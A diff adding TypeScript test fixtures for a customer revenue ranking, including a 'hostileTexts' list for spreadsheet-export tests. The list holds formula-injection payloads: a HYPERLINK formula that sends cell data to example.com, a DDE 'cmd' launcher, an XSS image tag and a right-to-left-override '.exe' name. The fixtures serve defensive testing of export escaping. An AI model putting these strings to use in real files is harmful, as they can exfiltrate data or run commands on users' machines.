@@ -1,0 +1,85 @@
+import { minorDigits } from '../../../shared/money.ts';
+import { type CustomerFigures, rankCustomers } from '../../../shared/ranking/rank-customers.ts';
+import type { ClassSplit, LeftOut, RevenueRanking } from '../../../shared/ranking/ranking.ts';
+
+/** A ranking as the engine makes it, over customers given by name and net. */
+export function sampleRanking(
+  customers: readonly { name: string; netMinor: number; number?: string; lastDay?: string }[],
+  {
+    currency = 'CNY',
+    top = 50,
+    split = 'count',
+    leftOut = [],
+  }: { currency?: string; top?: number; split?: ClassSplit; leftOut?: readonly LeftOut[] } = {},
+): RevenueRanking {
+  const figures: CustomerFigures[] = customers.map((customer, index) => ({
+    customerId: index + 1,
+    number: String(10_001 + index),
+    lastDay: `2026-${String((index % 9) + 1).padStart(2, '0')}-15`,
+    orders: (index % 7) + 1,
+    ...customer,
+  }));
+  return {
+    from: '2025-11-23',
+    to: '2026-11-22',
+    asOf: '2026-11-22',
+    asOfReason: 'today',
+    currency,
+    minorDigits: minorDigits(currency),
+    top,
+    split,
+    customers: figures.length,
+    netMinor: figures.reduce((sum, { netMinor }) => sum + netMinor, 0),
+    walkInNetMinor: leftOut.find(({ reason }) => reason === 'walkIn')?.netMinor ?? 0,
+    leftOut,
+    rows: rankCustomers(figures, top, split),
+  };
+}
+
+/** Nets that fall off as those of real shops do, with cents that no binary fraction holds exactly. */
+export function fallingNets(count: number): { name: string; netMinor: number }[] {
+  return Array.from({ length: count }, (_, index) => ({
+    name: `Customer ${index + 1}`,
+    netMinor: Math.floor(98_765_431 / (index + 1) ** 1.1) + (index % 97),
+  }));
+}
+
+export const sampleOrigin = {
+  archiveName: 'Tea & Paper',
+  madeAt: Date.UTC(2026, 10, 22, 8, 2),
+  appVersion: '0.1.0',
+  imports: [
+    { fileName: 'orders 2026.csv', day: '2026-11-20', rows: 12_345 },
+    { fileName: '=1+2.csv', day: '2026-11-21', rows: 7 },
+  ],
+};
+
+/** Names that spreadsheet programs would run, mangle or take for something else (faults 58, 60). */
+export const hostileTexts = [
+  '=HYPERLINK("http://example.com/?x="&A1,"Click")',
+  "-2+3+cmd|' /C calc'!A0",
+  '+1',
+  '@SUM(A1)',
+  '\t=1+2',
+  '\r=1+2',
+  '\n=1+2',
+  '  =1+2',
+  '＝1+2',
+  '";=1+2',
+  "'=1+2",
+  "''=1+2",
+  '+86 138-0013-8000',
+  '00123',
+  '1.23E+15',
+  '2026-03-04',
+  'TRUE',
+  '#N/A',
+  '#VALUE!',
+  '_x0041_',
+  '<img src=x onerror=alert(1)>',
+  '{=SUM(A1)}',
+  '👩‍👩‍👧 Café ☕',
+  'שלום עולם',
+  '\u202Egpj.exe',
+  '欧阳修，"六一居士"',
+];
